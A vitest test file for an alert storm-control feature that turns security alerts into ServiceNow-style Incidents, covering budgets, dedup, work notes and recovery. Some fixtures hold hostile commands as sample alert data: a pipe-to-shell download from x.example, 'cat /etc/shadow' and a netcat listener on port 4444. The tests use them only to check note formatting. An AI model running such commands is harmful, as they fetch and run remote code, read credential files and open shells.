// Storm control with a controllable clock: budgets, window roll-over, the global cap, dedup
// before storm, one note per minute, recovery with a final note. Nothing is lost.
import { beforeEach, describe, expect, it } from 'vitest'
import { decideStorm } from '../src/server/storm-control'
import { runStormSweep } from '../src/server/storm-sweep-job'
import { fakeInstance } from '../tools/glide-fake/index'
import { deliver, deliveriesTable, incidents, resetInstance } from '../tools/local-instance'
import { fixtureBody } from './support/scenario-engine'

const BASE = JSON.parse(fixtureBody('03-deploy-latest-tag.json'))

/** A deploy-time alert of `policy` on deployment `name` (each a new dedup key). */
function alertFor(name: string, policy: string = 'Latest tag'): string {
    const body = structuredClone(BASE)
    body.alert.id = 'alert-' + policy + '-' + name
    body.alert.policy.id = 'policy-' + policy
    body.alert.policy.name = policy
    body.alert.deployment.name = name
    body.alert.deployment.id = 'dep-' + name
    return JSON.stringify(body)
}

const MINUTE = 60000

beforeEach(() => resetInstance({ 'x_rhacs_snow.storm.policy_budget': '3', 'x_rhacs_snow.storm.global_budget': '5', 'x_rhacs_snow.storm.window_minutes': '10' }))

describe('decideStorm', () => {
    const budget = { policyBudget: 3, globalBudget: 5 }
    it('creates under budget and storms at the policy or the global budget', () => {
        expect(decideStorm({ policyCreated: 2, policyStorm: 0, totalCreated: 2 }, false, budget)).toBe('create')
        expect(decideStorm({ policyCreated: 3, policyStorm: 0, totalCreated: 3 }, false, budget)).toBe('storm')
        expect(decideStorm({ policyCreated: 0, policyStorm: 0, totalCreated: 5 }, false, budget)).toBe('storm')
    })
    it('keeps a storm until a window passes under budget', () => {
        expect(decideStorm({ policyCreated: 0, policyStorm: 3, totalCreated: 0 }, true, budget)).toBe('storm')
        expect(decideStorm({ policyCreated: 1, policyStorm: 1, totalCreated: 1 }, true, budget)).toBe('recover')
    })
})

describe('a burst of one policy', () => {
    it('creates budget-many Incidents, then one storm Incident absorbing the rest; every delivery recorded', () => {
        const answers = Array.from({ length: 10 }, (_, i) => deliver(alertFor('app-' + i)))
        expect(answers.slice(0, 3).map((a) => [a.status, a.body.outcome])).toEqual([[201, 'created'], [201, 'created'], [201, 'created']])
        expect([answers[3].status, answers[3].body.outcome, answers[3].body.storm]).toEqual([201, 'storm', true])
        for (const a of answers.slice(4)) {
            expect([a.status, a.body.outcome, a.body.number]).toEqual([200, 'storm', answers[3].body.number])
        }
        const list = incidents()
        expect(list).toHaveLength(4)
        expect(list[3].short_description).toBe('RHACS alert storm: Latest tag (LOW_SEVERITY)')
        expect([list[3].urgency, list[3].impact]).toEqual([3, 3])
        expect(list[3].storm_state).toBe('active')
        expect(deliveriesTable()).toHaveLength(10)
        expect(deliveriesTable().filter((d) => d.incident === list[3].number)).toHaveLength(7)
    })

    it('dedup applies first: a key with an open Incident updates it, never the storm one', () => {
        for (let i = 0; i < 5; i++) deliver(alertFor('app-' + i))
        const body = JSON.parse(alertFor('app-0'))
        body.alert.id = 'a-newer-alert-on-app-0'
        const again = deliver(JSON.stringify(body))
        expect(again.body.outcome).toBe('updated')
        expect(again.body.number).toBe(incidents()[0].number)
    })

    it('writes at most one storm work note per minute, listing the workloads added since the last', () => {
        for (let i = 0; i < 4; i++) deliver(alertFor('app-' + i)) // 3 created + storm Incident
        deliver(alertFor('app-4'))
        deliver(alertFor('app-5'))
        const storm = () => incidents().find((i) => i.storm_state !== '')!
        expect(storm().work_notes).toHaveLength(0)
        fakeInstance.advance(MINUTE)
        deliver(alertFor('app-6'))
        expect(storm().work_notes).toHaveLength(1)
        const note = storm().work_notes[0]
        expect(note).toContain('3 alerts absorbed since')
        for (const n of ['app-4', 'app-5', 'app-6']) expect(note).toContain(n)
        deliver(alertFor('app-7'))
        deliver(alertFor('app-8'))
        expect(storm().work_notes).toHaveLength(1)
        fakeInstance.advance(MINUTE)
        deliver(alertFor('app-9'))
        expect(storm().work_notes).toHaveLength(2)
        const second = storm().work_notes[1]
        expect(second).toContain('3 alerts absorbed since')
        for (const n of ['app-7', 'app-8', 'app-9']) expect(second).toContain(n)
        expect(second).not.toContain('app-6')
        expect(storm().occurrences).toBe(1 + 6)
    })
})

describe('storm notes say who did what', () => {
    it('one line per absorbed alert: where, the user, the command; identical lines counted, the note within 4,000', () => {
        resetInstance({ 'x_rhacs_snow.storm.policy_budget': '0' })
        const exec = (deployment: string, user: string, command: string, i: number) => {
            const body = JSON.parse(fixtureBody('01-exec-into-pod.json'))
            body.alert.id = 'exec-' + i
            body.alert.deployment.name = deployment
            const attrs = body.alert.violations[0].keyValueAttrs.attrs
            attrs.find((a: { key: string }) => a.key === 'Username').value = user
            attrs.find((a: { key: string }) => a.key === 'commands').value = command
            return JSON.stringify(body)
        }
        deliver(exec('opener', 'alice', '/bin/bash', 0))
        deliver(exec('api', 'alice', '/bin/bash', 1))
        deliver(exec('api', 'alice', '/bin/bash', 2))
        deliver(exec('worker', 'mallory', 'curl http://x.example/p.sh | sh', 3))
        for (let i = 0; i < 200; i++) deliver(exec('w-' + i, 'u' + i, 'cat /etc/shadow ' + 'x'.repeat(200), 4 + i))
        fakeInstance.advance(MINUTE)
        deliver(exec('last', 'bob', 'id', 999))
        const storm = incidents().find((i) => i.storm_state === 'active')!
        const note = storm.work_notes[0]
        expect(note.length).toBeLessThanOrEqual(4000)
        expect(note).toMatch(/^Storm control: 204 alerts absorbed since .* UTC \(where: who: what\):\n/)
        expect(note).toContain('- local-cluster / gibson / Deployment / api: user alice: /bin/bash (2 alerts)')
        expect(note).toContain('- local-cluster / gibson / Deployment / worker: user mallory: curl http://x.example/p.sh | sh')
        expect(note).toMatch(/\n- … and \d+ more lines not shown \(field limit\)$/)
    })

    it('a process alert names the process UID and the command', () => {
        resetInstance({ 'x_rhacs_snow.storm.policy_budget': '0' })
        deliver(fixtureBody('04-runtime-process-netcat.json'))
        const [row] = fakeInstance.rows('x_rhacs_snow_delivery')
        expect(row.detail).toBe('Absorbed by storm control: local-cluster / payments / Deployment / payments-api: UID 1000680000: /usr/bin/nc -lvnp 4444')
    })
})

describe('replays during a storm', () => {
    it('a replay or an older version of an absorbed alert is a duplicate/stale, not another storm alert', () => {
        for (let i = 0; i < 5; i++) deliver(alertFor('app-' + i)) // 3 created, storm, 1 absorbed (app-4)
        const replay = deliver(alertFor('app-4'))
        expect([replay.status, replay.body.outcome, replay.body.storm]).toEqual([200, 'duplicate', true])
        const older = JSON.parse(alertFor('app-4'))
        older.alert.time = '2026-02-10T00:00:00Z'
        expect(deliver(JSON.stringify(older)).body.outcome).toBe('stale')
        fakeInstance.advance(MINUTE)
        deliver(alertFor('app-5'))
        const storm = incidents().find((i) => i.storm_state === 'active')!
        // The note lists app-4 once and app-5 once: replays are not alerts.
        expect(storm.work_notes[0]).toContain('2 alerts absorbed since')
        expect(storm.occurrences).toBe(3)
    })
})

describe('global cap and recovery', () => {
    it('the global cap storms a policy that is under its own budget', () => {
        for (let i = 0; i < 3; i++) deliver(alertFor('a-' + i, 'Policy A'))
        for (let i = 0; i < 2; i++) deliver(alertFor('b-' + i, 'Policy B'))
        const c = deliver(alertFor('c-0', 'Policy C'))
        expect(c.body.outcome).toBe('storm')
        expect(incidents().filter((i) => i.storm_state === 'active').map((i) => i.short_description)).toEqual(['RHACS alert storm: Policy C (LOW_SEVERITY)'])
    })

    it('after a whole window under budget, new keys get their own Incidents and the storm gets its final note', () => {
        for (let i = 0; i < 6; i++) deliver(alertFor('app-' + i)) // 3 created, storm + 2 absorbed
        fakeInstance.advance(5 * MINUTE)
        expect(deliver(alertFor('app-6')).body.outcome).toBe('storm') // still inside the window
        fakeInstance.advance(11 * MINUTE)
        const back = deliver(alertFor('app-7'))
        expect([back.status, back.body.outcome]).toEqual([201, 'created'])
        const storm = incidents().find((i) => i.short_description.startsWith('RHACS alert storm'))!
        expect(storm.storm_state).toBe('ended')
        const final = storm.work_notes[storm.work_notes.length - 1]
        expect(final).toContain('Storm control ended')
        expect(final).toContain('absorbed 4 alerts of 4 problems')
        // A later storm of the same policy opens a new storm Incident that references the old one.
        for (let i = 8; i < 12; i++) deliver(alertFor('app-' + i))
        const storms = incidents().filter((i) => i.short_description.startsWith('RHACS alert storm'))
        expect(storms).toHaveLength(2)
        expect(storms[1].previous_incident).toBe(storm.number)
    })
})

describe('storm sweep job', () => {
    it('ends a storm no new alert came to end, once a whole window passed under budget', () => {
        for (let i = 0; i < 6; i++) deliver(alertFor('app-' + i)) // 3 created, storm + 2 absorbed
        expect(runStormSweep()).toBe(0) // still inside the window
        fakeInstance.advance(11 * MINUTE)
        expect(runStormSweep()).toBe(1)
        const storm = incidents().find((i) => i.short_description.startsWith('RHACS alert storm'))!
        expect(storm.storm_state).toBe('ended')
        expect(storm.work_notes[storm.work_notes.length - 1]).toContain('absorbed 3 alerts of 3 problems')
        expect(fakeInstance.logs.some((l) => l.message === 'RHACS storm sweep: ended 1 storm.')).toBe(true)
        // Nothing left to end; the next new problem gets its own Incident without a second final note.
        expect(runStormSweep()).toBe(0)
        expect(deliver(alertFor('app-9')).body.outcome).toBe('created')
        expect(incidents().find((i) => i.number === storm.number)!.work_notes.filter((n) => n.includes('Storm control ended'))).toHaveLength(1)
    })

    it('leaves a storm whose policy is still over budget, and closed storm Incidents', () => {
        for (let i = 0; i < 8; i++) deliver(alertFor('app-' + i))
        fakeInstance.advance(9 * MINUTE)
        for (let i = 8; i < 11; i++) deliver(alertFor('app-' + i))
        fakeInstance.advance(2 * MINUTE)
        expect(runStormSweep()).toBe(0) // 3 absorbed in the last 10 minutes: at budget
        const row = fakeInstance.rows('incident').find((r) => r.x_rhacs_snow_storm_state === 'active')!
        row.state = '7'
        fakeInstance.advance(20 * MINUTE)
        expect(runStormSweep()).toBe(0)
    })
})

describe('keys that travel in IN queries', () => {
    it('a policy name with commas still finds its one storm Incident', () => {
        resetInstance({ 'x_rhacs_snow.storm.policy_budget': '1' })
        const answers = ['a', 'b', 'c'].map((n) => deliver(alertFor(n, 'CVE, fixable, important^high')))
        expect(answers.map((a) => a.body.outcome)).toEqual(['created', 'storm', 'storm'])
        expect(answers[2].body.number).toBe(answers[1].body.number)
        expect(String(answers[1].body.correlation_id)).not.toMatch(/[,^]/)
    })
})
